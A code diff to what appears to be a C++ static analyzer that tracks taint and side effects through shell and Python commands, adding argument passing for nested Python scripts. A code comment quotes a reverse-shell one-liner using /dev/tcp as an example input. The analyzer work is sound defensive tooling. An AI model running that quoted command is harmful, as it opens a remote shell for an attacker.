@@ -483,7 +483,7 @@ class Runner {
     const std::string* text = ctx_.written_text_at(ctx_.path(file.text));
     if (!text) return;
     Word code{*text, taint, ev};
-    if (python) interpret_python(code.text, ctx_, &site_, "in the script it wrote and runs", code.taint, code.ev);
+    if (python) interpret_python(code.text, ctx_, &site_, "in the script it wrote and runs", code.taint, code.ev, &args);
     else interpret_shell_script(code.text, ctx_, &site_, "in the script it wrote and runs", code.taint, code.ev, std::move(args));
   }
   // `docker run [OPTS] IMAGE CMD...` and `docker exec [OPTS] CONTAINER CMD...`:
@@ -569,8 +569,8 @@ class Runner {
              script.taint, script.ev);
   }
   void nested_shell(const Word& code) { interpret_shell(code.text, ctx_, &site_, "in nested shell code", code.taint, code.ev); }
-  void nested_python(const Word& code) {
-    interpret_python(code.text, ctx_, &site_, "in Python code it runs", code.taint, code.ev);
+  void nested_python(const Word& code, const std::vector<Word>* args = nullptr) {
+    interpret_python(code.text, ctx_, &site_, "in Python code it runs", code.taint, code.ev, args);
   }
   void check_threats(const std::vector<Word>& argv) {
     std::string line = join_words(argv, 0);
@@ -1768,11 +1768,11 @@ CommandResult Runner::run(std::vector<Word> argv, const CommandIo& io, int depth
     // Code with unknown parts runs as bash -c runs it (eval "bash -i >& /dev/tcp/$HOST/4444 0>&1").
     if (!code.text.empty() && code.text != std::string(1, kUnknownPart)) {
       // What it prints is what this command prints (< <(eval "find \"\$ROOT\" -type f")).
-      ctx_.shell_printed_taint = 0;
-      ctx_.shell_printed_ev = -1;
+      ctx_.nested_printed_taint = 0;
+      ctx_.nested_printed_ev = -1;
       nested_shell(code);
-      r.stdout_taint |= ctx_.shell_printed_taint;
-      if (r.stdout_ev < 0) r.stdout_ev = ctx_.shell_printed_ev;
+      r.stdout_taint |= ctx_.nested_printed_taint;
+      if (r.stdout_ev < 0) r.stdout_ev = ctx_.nested_printed_ev;
     }
     return r;
   }
@@ -2002,15 +2002,30 @@ CommandResult Runner::interpreter(const std::vector<Word>& argv, const CommandIo
     auto [ft, fev] = file_taint(f);
     effect(Eff::exec, "interpreter", name, name + " " + join_words(argv, 1), ft, fev >= 0 ? fev : f.ev,
            flags & ~kShellInterp);
-    if (python) run_written_script(f, true, ft, fev >= 0 ? fev : f.ev);
+    if (python) {
+      std::vector<Word> args;
+      for (size_t k = 1; k < p.operands.size(); ++k) args.push_back(argv[p.operands[k]]);
+      run_written_script(f, true, ft, fev >= 0 ? fev : f.ev, std::move(args));
+    }
     return r;
   }
   // Code on stdin.
   r.interactive_shell = true;
   r.stdout_taint = kShellIo;
   effect(Eff::exec, "interpreter", name, io.stdin_known ? io.stdin_text : name, io.stdin_taint, io.stdin_ev, flags);
-  if (io.stdin_known) {
-    if (python) nested_python(Word{io.stdin_text, io.stdin_taint, io.stdin_ev});
+  if (io.stdin_known && python) {
+    // python3 - A B: A and B are its sys.argv[1:].
+    std::vector<Word> args;
+    for (size_t k = !p.operands.empty() && argv[p.operands[0]].text == "-" ? 1 : p.operands.size();
+         k < p.operands.size(); ++k)
+      args.push_back(argv[p.operands[k]]);
+    ctx_.nested_printed_taint = 0;
+    ctx_.nested_printed_ev = -1;
+    nested_python(Word{io.stdin_text, io.stdin_taint, io.stdin_ev}, &args);
+    // A program known whole, not a session: its output is what it prints.
+    r.interactive_shell = false;
+    r.stdout_taint = ctx_.nested_printed_taint;
+    r.stdout_ev = ctx_.nested_printed_ev;
   }
   return r;
 }
